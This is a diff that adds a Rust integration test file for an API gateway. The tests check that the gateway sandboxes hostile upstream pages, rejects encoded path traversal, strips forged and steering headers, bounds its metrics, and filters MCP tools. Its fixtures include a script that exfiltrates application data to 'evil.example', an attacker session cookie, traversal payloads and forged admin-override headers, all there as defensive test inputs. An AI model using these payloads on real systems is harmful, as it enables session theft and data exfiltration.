@@ -1,0 +1,374 @@
+//! Issue 30, "trust from outside": what probes, two MCP SDKs and the OpenAPI tools found,
+//! each kept fixed by a test with real processes where the finding is about them — an
+//! upstream that answers a page with a script and sets cookies, the gateway on its own
+//! origin, encoded dot segments, invented methods against `/metrics`, headers the
+//! upstream must not see, and a multi-line event listed by the official MCP SDK.
+
+use crate::gateway::{call, client, plan, publish};
+use crate::helpers::{demo_cookie, server_process, wait_ready, TestApp, TestResponse};
+use axum::body::Body;
+use axum::http::Request;
+use serde_json::{json, Value};
+use sqlx::PgPool;
+
+/// The page an attacker's upstream answers: a script that would read the victim's
+/// applications, and cookies meant for the portal.
+const PAGE: &str = "<!doctype html><script>fetch('/v1/applications').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>";
+
+/// An upstream answering every path with [`PAGE`], a portal session cookie and an order
+/// to wipe the site's data.
+async fn page_upstream() -> u16 {
+    let app = axum::Router::new().fallback(|| async {
+        (
+            [
+                ("content-type", "text/html; charset=utf-8"),
+                ("set-cookie", "stoa_session=attacker; Path=/"),
+                ("clear-site-data", "\"cookies\""),
+                ("content-security-policy", "script-src 'unsafe-inline'"),
+            ],
+            PAGE,
+        )
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    tokio::spawn(async move { axum::serve(listener, app).await.expect("page upstream") });
+    port
+}
+
+/// The demo tenant with an API `page` on [`page_upstream`] and alice's key subscribed to
+/// it on a plan without limits.
+async fn page_platform(pool: &PgPool) -> (TestApp, String) {
+    app::db::seed::run(pool).await.expect("seed");
+    let port = page_upstream().await;
+    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
+    publish(&app, "page", &format!("http://127.0.0.1:{port}")).await;
+    plan(pool, "open", None, None).await;
+    let alice = demo_cookie(&app, "alice").await;
+    let (_, key, _) = client(&app, &alice, "Page reader", "page", Some("open")).await;
+    (app, key)
+}
+
+/// Item 1: served from the portal's origin, an upstream's page is a sandboxed document
+/// (no script runs, nothing is same-origin with the portal) and sets no cookie.
+#[sqlx::test(migrations = "../migrations")]
+async fn an_upstream_page_on_the_portals_origin_is_sandboxed_and_sets_no_cookie(pool: PgPool) {
+    let (app, key) = page_platform(&pool).await;
+    let res = call(&app, "GET", "/gw/demo/page/orders/1", Some(&key)).await;
+    assert_eq!(res.status, 200, "{}", res.body);
+    assert_eq!(res.body, PAGE, "the answer itself passes");
+    assert_eq!(res.header("content-security-policy"), Some("sandbox"));
+    assert_eq!(res.header("x-content-type-options"), Some("nosniff"));
+    assert_eq!(res.header("set-cookie"), None, "no cookie is set on the portal's origin");
+    assert_eq!(res.header("clear-site-data"), None);
+    // Refusals too.
+    let res = call(&app, "GET", "/gw/demo/page/orders/1", None).await;
+    assert_eq!((res.status.as_u16(), res.header("content-security-policy")), (401, Some("sandbox")));
+}
+
+/// Item 1: with `GATEWAY_PORT`, the gateway answers on its own origin, the portal's `/gw`
+/// sends callers there (308: method and body kept), the catalog names the gateway's URL,
+/// and the gateway's listener serves nothing of the portal.
+#[sqlx::test(migrations = "../migrations")]
+async fn the_gateway_has_an_origin_of_its_own(pool: PgPool) {
+    let (_app, key) = page_platform(&pool).await;
+    let gateway_port = crate::kafka::free_port();
+    let data = tempdir();
+    let (_server, portal) = server_process(
+        &pool,
+        data.path(),
+        &[("GATEWAY_PORT", &gateway_port.to_string()), ("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")],
+    );
+    let gateway = format!("http://127.0.0.1:{gateway_port}");
+    let http =
+        reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
+    wait_ready(&http, &portal).await;
+
+    let res = http
+        .get(format!("{gateway}/gw/demo/page/orders/1"))
+        .header("x-api-key", &key)
+        .send()
+        .await
+        .expect("gateway");
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.text().await.expect("body"), PAGE);
+
+    let res = http.post(format!("{portal}/gw/demo/page/orders/1?x=1")).send().await.expect("portal");
+    assert_eq!(res.status(), 308);
+    assert_eq!(
+        res.headers().get("location").and_then(|v| v.to_str().ok()),
+        Some(format!("{gateway}/gw/demo/page/orders/1?x=1").as_str())
+    );
+    for path in ["/", "/login", "/v1/me", "/api/login", "/metrics"] {
+        let res = http.get(format!("{gateway}{path}")).send().await.expect("gateway");
+        assert_eq!(res.status(), 404, "{path} is the portal's, not the gateway's");
+    }
+    let (status, detail) = rest_json(&http, &format!("{portal}/v1/catalog/apis/demo/page")).await;
+    assert_eq!(status, 200, "{detail}");
+    let urls: Vec<&str> = detail["versions"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .flat_map(|v| v["deployments"].as_array().into_iter().flatten())
+        .filter_map(|d| d["gateway_url"].as_str())
+        .collect();
+    assert_eq!(urls, [format!("{gateway}/gw/demo/page")], "{detail}");
+}
+
+async fn rest_json(http: &reqwest::Client, url: &str) -> (u16, Value) {
+    let res = http.get(url).send().await.expect("answer");
+    let status = res.status().as_u16();
+    (status, res.json().await.unwrap_or(Value::Null))
+}
+
+fn tempdir() -> TempDir {
+    let path = std::env::temp_dir().join(format!("stoa-trust-{}", uuid::Uuid::new_v4()));
+    std::fs::create_dir_all(&path).expect("temp dir");
+    TempDir(path)
+}
+
+/// A directory removed when dropped.
+struct TempDir(std::path::PathBuf);
+
+impl TempDir {
+    fn path(&self) -> &std::path::Path {
+        &self.0
+    }
+}
+
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// An upstream that answers every call with what it received: method, path, query and
+/// every header.
+async fn mirror_upstream() -> u16 {
+    use axum::extract::Request as Incoming;
+    let app = axum::Router::new().fallback(|req: Incoming| async move {
+        let headers: serde_json::Map<String, Value> = req
+            .headers()
+            .iter()
+            .map(|(n, v)| (n.as_str().to_owned(), json!(v.to_str().unwrap_or_default())))
+            .collect();
+        axum::Json(json!({
+            "method": req.method().as_str(),
+            "path": req.uri().path(),
+            "query": req.uri().query(),
+            "headers": headers,
+        }))
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    tokio::spawn(async move { axum::serve(listener, app).await.expect("mirror upstream") });
+    port
+}
+
+/// The demo tenant with the echo document on [`mirror_upstream`] (`/base`), and alice's
+/// subscribed key.
+async fn mirror_platform(pool: &PgPool) -> (TestApp, String) {
+    app::db::seed::run(pool).await.expect("seed");
+    let port = mirror_upstream().await;
+    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
+    publish(&app, "mirror", &format!("http://127.0.0.1:{port}/base")).await;
+    plan(pool, "open", None, None).await;
+    let alice = demo_cookie(&app, "alice").await;
+    let (_, key, _) = client(&app, &alice, "Mirror", "mirror", Some("open")).await;
+    (app, key)
+}
+
+fn json_of(res: &TestResponse) -> Value {
+    serde_json::from_str(&res.body).unwrap_or(Value::Null)
+}
+
+/// Item 4: a dot segment in any spelling, or a separator hidden in a segment, is refused
+/// before matching; it never reaches the upstream under a declared operation's name.
+#[sqlx::test(migrations = "../migrations")]
+async fn encoded_dot_segments_never_leave_the_registered_path(pool: PgPool) {
+    let (app, key) = mirror_platform(&pool).await;
+    let ok = call(&app, "GET", "/gw/demo/mirror/orders/7", Some(&key)).await;
+    assert_eq!(json_of(&ok)["path"], "/base/orders/7", "{}", ok.body);
+    for path in [
+        "/orders/%2e%2e",
+        "/orders/%2E%2E",
+        "/orders/.%2e",
+        "/orders/%2e.",
+        "/orders/%2e",
+        "/orders/..%2f..",
+        "/orders/a%2Fb",
+        "/orders/a%5Cb",
+    ] {
+        let res = call(&app, "GET", &format!("/gw/demo/mirror{path}"), Some(&key)).await;
+        assert_eq!(
+            (res.status.as_u16(), json_of(&res)["error"].clone()),
+            (404, json!("unknown_operation")),
+            "{path}: {}",
+            res.body
+        );
+    }
+}
+
+/// Item 7: what the upstream must not see — headers named in `Connection`, method and URL
+/// overrides, client addresses and proxies set by the caller, forged call and request ids
+/// — and the key itself wherever else the caller sent it.
+#[sqlx::test(migrations = "../migrations")]
+async fn the_upstream_sees_neither_the_key_nor_headers_that_would_steer_it(pool: PgPool) {
+    let (app, key) = mirror_platform(&pool).await;
+    let req = Request::get(format!("/gw/demo/mirror/orders/7?k={key}&page=2&token=Bearer%20{key}"))
+        .header("x-api-key", &key)
+        .header("authorization", format!("Bearer {key}"))
+        .header("connection", "keep-alive, X-Secret-Hop")
+        .header("x-secret-hop", "one hop only")
+        .header("x-http-method-override", "DELETE")
+        .header("x-original-url", "/admin")
+        .header("x-rewrite-url", "/admin")
+        .header("x-real-ip", "10.0.0.1")
+        .header("true-client-ip", "10.0.0.1")
+        .header("via", "1.1 forged")
+        .header("x-stoa-call-id", "forged-call")
+        .header("x-request-id", "forged-request")
+        .header("x-kept", "yes")
+        .body(Body::empty())
+        .expect("request");
+    let res = app.send(req).await;
+    assert_eq!(res.status, 200, "{}", res.body);
+    let seen = json_of(&res);
+    assert!(!res.body.contains(&key), "the key reached the upstream: {}", res.body);
+    assert_eq!(seen["query"], "page=2", "{seen}");
+    let headers = seen["headers"].as_object().expect("headers");
+    for name in [
+        "x-api-key",
+        "authorization",
+        "connection",
+        "x-secret-hop",
+        "x-http-method-override",
+        "x-original-url",
+        "x-rewrite-url",
+        "x-real-ip",
+        "true-client-ip",
+        "via",
+        "x-stoa-call-id",
+    ] {
+        assert!(!headers.contains_key(name), "{name} reached the upstream: {seen}");
+    }
+    assert_eq!(headers["x-kept"], "yes", "other headers pass");
+    let request_id = headers["x-request-id"].as_str().expect("the gateway's own request id");
+    assert_ne!(request_id, "forged-request");
+    assert_eq!(res.header("x-request-id"), Some(request_id), "the caller learns the id the upstream saw");
+}
+
+/// Item 5: `/metrics` is bounded whatever methods callers invent: 500 random methods and
+/// one of 16 000 characters add one `other` series, and no method is printed as sent.
+#[sqlx::test(migrations = "../migrations")]
+async fn invented_methods_add_no_series_to_metrics(pool: PgPool) {
+    let app = TestApp::new(pool);
+    let before = app.get("/metrics", &[]).await.body;
+    let long = "M".repeat(16_000);
+    for i in 0..500 {
+        let method = if i == 0 { long.clone() } else { format!("X{}", uuid::Uuid::new_v4().simple()) };
+        let req = Request::builder()
+            .method(method.as_str())
+            .uri("/gw/demo/x/y")
+            .body(Body::empty())
+            .expect("request");
+        app.send(req).await;
+        let req =
+            Request::builder().method(method.as_str()).uri("/nowhere").body(Body::empty()).expect("request");
+        app.send(req).await;
+    }
+    let after = app.get("/metrics", &[]).await.body;
+    assert!(!after.contains("MMMMMMMM") && !after.contains("method=\"X"), "a method as sent: {after}");
+    let series = |text: &str| text.lines().filter(|l| l.starts_with("stoa_http_requests_total")).count();
+    assert!(
+        series(&after) <= series(&before) + 4,
+        "{} series before, {} after:\n{after}",
+        series(&before),
+        series(&after)
+    );
+    assert!(after.contains("method=\"other\""), "{after}");
+    assert!(after.contains("# TYPE stoa_metering_events_recorded counter"), "{after}");
+}
+
+/// A real MCP server (streamable HTTP) that answers with server-sent events and writes
+/// its `tools/list` result over several `data:` lines, as the SSE specification allows:
+/// no line alone is JSON.
+async fn multiline_mcp_upstream() -> u16 {
+    use axum::extract::Request as Incoming;
+    let app = axum::Router::new().fallback(|req: Incoming| async move {
+        if req.method() != axum::http::Method::POST {
+            return (
+                axum::http::StatusCode::METHOD_NOT_ALLOWED,
+                [("content-type", "text/plain")],
+                String::new(),
+            );
+        }
+        let body = axum::body::to_bytes(req.into_body(), 1 << 20).await.unwrap_or_default();
+        let message: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
+        let Some(id) = message.get("id").cloned() else {
+            // A notification.
+            return (axum::http::StatusCode::ACCEPTED, [("content-type", "text/plain")], String::new());
+        };
+        let result = match message["method"].as_str() {
+            Some("initialize") => json!({
+                "protocolVersion": message["params"]["protocolVersion"].as_str().unwrap_or("2025-06-18"),
+                "capabilities": { "tools": {} },
+                "serverInfo": { "name": "forecasts", "version": "1.0.0" } }),
+            Some("tools/list") => json!({ "tools": [
+                { "name": "get_forecast", "inputSchema": { "type": "object" } },
+                { "name": "admin_reset", "inputSchema": { "type": "object" } } ] }),
+            _ => json!({}),
+        };
+        let text = json!({ "jsonrpc": "2.0", "id": id, "result": result }).to_string();
+        // Cut the JSON after its first commas (no string holds one): each piece its own
+        // `data:` line of one event; the reader joins them with line feeds.
+        let events = format!("event: message\ndata: {}\n\n", text.replacen(',', ",\ndata: ", 3));
+        (axum::http::StatusCode::OK, [("content-type", "text/event-stream")], events)
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    tokio::spawn(async move { axum::serve(listener, app).await.expect("mcp upstream") });
+    port
+}
+
+/// Item 3: the official MCP TypeScript SDK lists, through the gateway, only the tools the
+/// subscription grants — also when the server writes its answer over several `data:`
+/// lines (which the gateway once passed on unfiltered).
+#[sqlx::test(migrations = "../migrations")]
+async fn the_official_mcp_sdk_lists_only_granted_tools_from_multi_line_events(pool: PgPool) {
+    app::db::seed::run(&pool).await.expect("seed");
+    let port = multiline_mcp_upstream().await;
+    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
+    let dave = demo_cookie(&app, "dave").await;
+    let tools = json!([
+        { "name": "get_forecast", "description": "A forecast", "inputSchema": { "type": "object" } },
+        { "name": "admin_reset", "description": "Reset", "inputSchema": { "type": "object" } }
+    ]);
+    let body = json!({ "name": "Forecasts", "slug": "forecasts", "tools": tools,
+                       "remote_url": format!("http://127.0.0.1:{port}/mcp") });
+    let (status, out) = crate::helpers::json_call(&app, "POST", "/v1/mcp/servers", Some(&dave), body).await;
+    assert_eq!(status, 201, "{out}");
+    let alice = demo_cookie(&app, "alice").await;
+    let body = json!({ "server_id": "forecasts", "plan": "free", "requested_tools": ["get_forecast"] });
+    let (status, created) =
+        crate::helpers::json_call(&app, "POST", "/v1/mcp/subscriptions", Some(&alice), body).await;
+    assert_eq!((status, created["state"].as_str()), (201, Some("active")), "{created}");
+    let key = created["api_key"].as_str().expect("key").to_owned();
+    // The gateway on a real socket, for a client in another process.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let gateway = listener.local_addr().expect("addr");
+    let router = app.router.clone();
+    tokio::spawn(async move { axum::serve(listener, router).await.expect("gateway") });
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../end2end/mcp/list-tools.mjs");
+    let out = tokio::process::Command::new("node")
+        .arg(script)
+        .arg(format!("http://{gateway}/gw/mcp/forecasts"))
+        .arg(&key)
+        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
+        .output()
+        .await
+        .expect("node runs the MCP SDK's client");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
+    let listed: Vec<String> = serde_json::from_str(stdout.trim()).expect("tool names");
+    assert_eq!(listed, ["get_forecast"], "the SDK listed a tool the subscription does not grant");
+}
